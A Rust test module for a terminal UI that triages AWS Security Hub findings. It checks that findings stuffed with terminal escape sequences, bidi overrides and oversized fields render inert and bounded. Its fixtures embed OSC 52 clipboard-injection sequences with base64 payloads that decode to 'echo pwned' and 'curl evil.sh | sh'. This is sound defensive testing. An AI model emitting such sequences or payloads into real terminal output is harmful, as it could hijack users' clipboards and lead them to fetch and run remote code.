//! Hostile findings drawn by the TUI: the same findings as `tests/hostile.rs` (a 1 MB title of escape sequences,
//! 5,000 resources on one finding, NUL, bidi overrides, OSC 52, C1 controls) in the table, the detail pane, the raw
//! JSON view, the plan of the apply dialog, the Sources view and the problems a source reports. No cell of any
//! frame holds a control or bidi character, and what is built per frame stays bounded.

use super::fixtures::press;
use super::{render, text};
use chrono::{TimeZone, Utc};
use crossterm::event::KeyCode;
use hubtriage::cloud::SourceId;
use hubtriage::config::Config;
use hubtriage::engine::jobs::PreviewItem;
use hubtriage::engine::stage::{Stage, Subscribers};
use hubtriage::engine::{Msg, Row, SourceStatus};
use hubtriage::model::asff::read_document;
use hubtriage::playbook::{Basis, Plan, Playbooks, Step};
use hubtriage::triage::{Assessment, PlanStatus, Triage};
use hubtriage::ui::app::Effect;
use hubtriage::ui::components::findings::detail;
use hubtriage::ui::{App, Theme};
use ratatui::buffer::Buffer;
use serde_json::{json, Value};
use std::path::Path;
use std::sync::Arc;
use std::time::{Duration, Instant};

/// CSI clear screen, an OSC 52 clipboard write (7-bit and 8-bit), a bidi override, NUL, a C1 CSI, a DCS query,
/// zero-width and tag characters: everything at once.
pub const EVIL: &str = "\u{1b}[2J\u{1b}]52;c;ZWNobyBwd25lZA==\u{7}\u{202e}\u{0}\u{9b}31m\u{1b}P1$r\u{1b}\\\
                    \u{9d}52;c;ZWNobyBwd25lZA==\u{9c}\u{200b}\u{200d}\u{feff}\u{e0041}\u{2028}";
const RESOURCES: usize = 5000;

fn finding(id: &str, title: String, resources: Vec<Value>) -> Value {
    let description = format!("\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7}copy this\n{EVIL} second line \u{85}\u{2066}");
    crate::hostile_asff::finding(id, title, description, resources)
}

/// The two hostile findings, assessed with the example config (EC2.13 has a playbook, so each has a plan).
fn hostile_rows() -> Vec<Row> {
    let huge_title = format!("{EVIL}{}", "A".repeat(1 << 20));
    let many: Vec<Value> = (0..RESOURCES)
        .map(|i| {
            json!({"Type": "AwsEc2SecurityGroup",
                   "Id": format!("arn:aws:ec2:eu-west-1:111111111111:security-group/sg-{i:017x}{EVIL}")})
        })
        .collect();
    let one = finding("hostile-1", huge_title, many);
    let two = finding(
        &format!("hostile-2{EVIL}"),
        format!("short {EVIL} title"),
        vec![json!({"Type": "AwsS3Bucket", "Id": format!("arn:aws:s3:::b{EVIL}")})],
    );
    // The 1 MB finding is the more severe: it is the first row, whatever order equal rows take.
    let mut one = one;
    one["Severity"] = json!({"Label": "CRITICAL"});
    let text = serde_json::to_string(&json!([one, two])).expect("json");
    let outcome = read_document(&text);
    assert_eq!(outcome.findings.len(), 2, "{:?}", outcome.problems);
    let config = Config::load_file(&Path::new(env!("CARGO_MANIFEST_DIR")).join("config.example.toml")).expect("config");
    let triage = Triage { policy: config.policy().expect("policy"), playbooks: Playbooks::new(&config.playbooks) };
    let now = Utc.with_ymd_and_hms(2026, 11, 21, 12, 0, 0).single().expect("time");
    outcome
        .findings
        .into_iter()
        .map(|f| {
            let assessment = triage.assess(&f, None, now);
            Row::new(Arc::new(f), assessment)
        })
        .collect()
}

fn hostile_app() -> App {
    let mut app = App::new(Theme::load("dark", None).expect("theme"), "hostile".into(), false);
    app.can_fix = true;
    app.add_rows(hostile_rows());
    assert_eq!(app.listing.visible_len(), 2);
    app
}

pub fn is_hostile(c: char) -> bool {
    c.is_control()
        || matches!(c, '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}' | '\u{200B}'..='\u{200F}' | '\u{061C}')
        || matches!(c, '\u{FEFF}' | '\u{AD}' | '\u{2060}'..='\u{2064}' | '\u{E0001}' | '\u{E0020}'..='\u{E007F}')
        || matches!(c, '\u{2028}' | '\u{2029}')
}

/// Every cell of the frame is inert: no ESC, BEL, NUL, C0/C1 control, bidi control or other format character.
pub fn assert_inert(buffer: &Buffer, what: &str) {
    for (i, cell) in buffer.content.iter().enumerate() {
        if let Some(c) = cell.symbol().chars().find(|c| is_hostile(*c)) {
            let (x, y) = (i % usize::from(buffer.area.width), i / usize::from(buffer.area.width));
            panic!("{what}: {c:?} in cell ({x}, {y}):\n{}", text(buffer));
        }
    }
}

/// Draws the app on a fresh 200 × 60 terminal; checks the frame and that drawing it took a bounded time.
fn frame(app: &App, what: &str) -> String {
    let started = Instant::now();
    let buffer = render(app, 200, 60);
    let took = started.elapsed();
    assert_inert(&buffer, what);
    // A very loose bound (debug build, shared CI machine): the sizes asserted below are the real guarantee.
    assert!(took < Duration::from_secs(2), "{what}: one frame took {took:?}");
    text(&buffer)
}

fn chars(lines: &[ratatui::text::Line]) -> usize {
    lines.iter().flat_map(|l| l.spans.iter()).map(|s| s.content.chars().count()).sum()
}

#[test]
fn table_and_detail_pane_are_inert_and_bounded() {
    let mut app = hostile_app();
    let screen = frame(&app, "table + detail of the 1 MB finding");
    assert!(screen.contains("Findings 1/2"), "{screen}");
    assert!(screen.contains("EC2.13"), "{screen}");
    // The escape sequences are gone whole: no parameters of them are left as text.
    assert!(!screen.contains("52;c;"), "{screen}");
    assert!(!screen.contains("ZWNobyBwd25lZA"), "{screen}");
    // What is built for the detail pane of one finding is bounded, however many resources it names.
    let lines = detail::lines(app.listing.selected_row().expect("selected"), &app);
    assert!(lines.len() < 200, "{} detail lines for {RESOURCES} resources", lines.len());
    assert!(chars(&lines) < 40_000, "{} characters in the detail pane", chars(&lines));
    let all = lines.iter().map(|l| l.to_string()).collect::<Vec<_>>().join("\n");
    assert!(all.contains(&format!("{} more resources", RESOURCES - 20)), "{all}");
    for (i, line) in lines.iter().enumerate() {
        for span in &line.spans {
            assert!(!span.content.chars().any(is_hostile), "detail line {i}: {:?}", span.content);
        }
    }
    press(&mut app, KeyCode::Char('j'));
    let screen = frame(&app, "table + detail of the short finding");
    assert!(screen.contains("Findings 2/2"), "{screen}");
    press(&mut app, KeyCode::Tab);
    for _ in 0..30 {
        press(&mut app, KeyCode::Char('j'));
    }
    frame(&app, "detail pane scrolled");
}

#[test]
fn raw_json_view_is_inert_and_bounded() {
    let mut app = hostile_app();
    press(&mut app, KeyCode::Char('J'));
    let screen = frame(&app, "raw JSON of the 1 MB finding");
    assert!(screen.contains("Raw JSON"), "{screen}");
    assert!(screen.contains("\"SchemaVersion\""), "{screen}");
    let row = app.listing.selected_row().expect("selected");
    let lines = detail::raw_lines(row);
    assert!(chars(&lines) <= 200_100, "{} characters of raw JSON built for one frame", chars(&lines));
    assert!(lines.len() < 12_000, "{} lines of raw JSON", lines.len());
    for line in &lines {
        for span in &line.spans {
            assert!(!span.content.chars().any(is_hostile), "raw JSON line {:?}", span.content);
        }
    }
    // Scrolled far down, into the resources.
    press(&mut app, KeyCode::Tab);
    for _ in 0..5 {
        press(&mut app, KeyCode::PageDown);
    }
    frame(&app, "raw JSON scrolled");
    press(&mut app, KeyCode::Tab);
    press(&mut app, KeyCode::Char('j'));
    frame(&app, "raw JSON of the short finding");
}

/// A plan as a playbook would build it from live state that carries hostile text (tag values, descriptions).
fn hostile_plan() -> Plan {
    Plan {
        playbook: "sg-open-ports",
        summary: format!("revoke 1 rule {EVIL}"),
        steps: vec![Step {
            action: format!("revoke ingress rule sgr-0abc{EVIL}"),
            before: format!("ingress tcp 22 from 0.0.0.0/0 {EVIL}"),
            after: format!("rule removed {EVIL}"),
        }],
        cli: vec![format!("aws ec2 revoke-security-group-ingress --group-id sg-1{EVIL}")],
        rollback_cli: vec![format!("aws ec2 authorize-security-group-ingress --group-id sg-1{EVIL}")],
        fingerprint: "5eed0f1a2b3c4d5e".into(),
        basis: Basis::Live,
        changes: Vec::new(),
        rollback: Vec::new(),
        warnings: vec![format!("restored rules get new rule ids {EVIL}")],
    }
}

#[test]
fn plans_in_the_detail_pane_and_the_apply_dialog_are_inert() {
    let mut app = hostile_app();
    frame(&app, "snapshot plan in the detail pane");
    let row = app.listing.selected_row().expect("selected");
    let lines = detail::lines(row, &app).iter().map(|l| l.to_string()).collect::<Vec<_>>().join("\n");
    // EC2.13 has a playbook; these findings carry no group details, so the pane says why there is no plan.
    assert!(lines.contains("No plan: the finding carries no resource details"), "{lines}");
    press(&mut app, KeyCode::Char('j'));
    let screen = frame(&app, "snapshot plan of the short finding");
    assert!(screen.contains("No plan: "), "{screen}");
    press(&mut app, KeyCode::Char('k'));
    press(&mut app, KeyCode::Char(' '));
    press(&mut app, KeyCode::Char('j'));
    press(&mut app, KeyCode::Char(' '));
    let effects = press(&mut app, KeyCode::Char('a'));
    let [Effect::PreviewApply { req, findings }] = effects.as_slice() else { panic!("{effects:?}") };
    assert_eq!(findings.len(), 2);
    let rows: Vec<Row> = app.listing.all().to_vec();
    let items = vec![
        PreviewItem {
            finding: rows[0].finding.clone(),
            result: Ok(Assessment {
                decision: rows[0].decision.clone(),
                plan: PlanStatus::Planned(Box::new(hostile_plan())),
            }),
            holder: None,
        },
        PreviewItem {
            finding: rows[1].finding.clone(),
            result: Err(format!("live read failed: AccessDenied {EVIL} not authorized")),
            holder: None,
        },
    ];
    app.on_msg(Msg::ApplyPreview { req: *req, items });
    let screen = frame(&app, "apply dialog");
    assert!(screen.contains("Apply these changes?"), "{screen}");
    assert!(screen.contains("revoke-security-group-ingress"), "{screen}");
    assert!(screen.contains("Skipped (1)"), "{screen}");
    for _ in 0..20 {
        press(&mut app, KeyCode::Char('j'));
    }
    frame(&app, "apply dialog scrolled");
}

#[test]
fn live_plan_errors_source_errors_and_problems_are_inert() {
    let mut app = App::new(Theme::load("dark", None).expect("theme"), "hostile".into(), true);
    app.add_rows(hostile_rows());
    press(&mut app, KeyCode::Char('j'));
    let effects = app.before_draw();
    let [Effect::LivePlan { req, finding }] = effects.as_slice() else { panic!("{effects:?}") };
    let key = finding.key();
    app.on_msg(Msg::LivePlan { req: *req, key, result: Box::new(Err(format!("DescribeSecurityGroups: {EVIL}"))) });
    let screen = frame(&app, "live read error in the detail pane");
    assert!(screen.contains("live read failed"), "{screen}");
    let source = SourceId { account_id: "111111111111".into(), region: "eu-west-1".into() };
    let page = Msg::FindingsPage {
        source: source.clone(),
        rows: Vec::new(),
        problems: vec![format!("finding {EVIL}: Title is not a string")],
    };
    for msg in Stage::new(Subscribers::default()).take(page) {
        app.on_msg(msg);
    }
    app.on_msg(Msg::SourceState {
        source,
        status: SourceStatus::Retrying { attempt: 2, error: format!("GetFindings: {EVIL} timed out") },
    });
    frame(&app, "findings view with a hostile source and problem");
    press(&mut app, KeyCode::Char('2'));
    let screen = frame(&app, "Sources view");
    assert!(screen.contains("timed out"), "{screen}");
    assert!(screen.contains("Input problems: 1"), "the problem is listed in the Sources view\n{screen}");
    assert!(screen.contains("Title is not a string"), "{screen}");
}
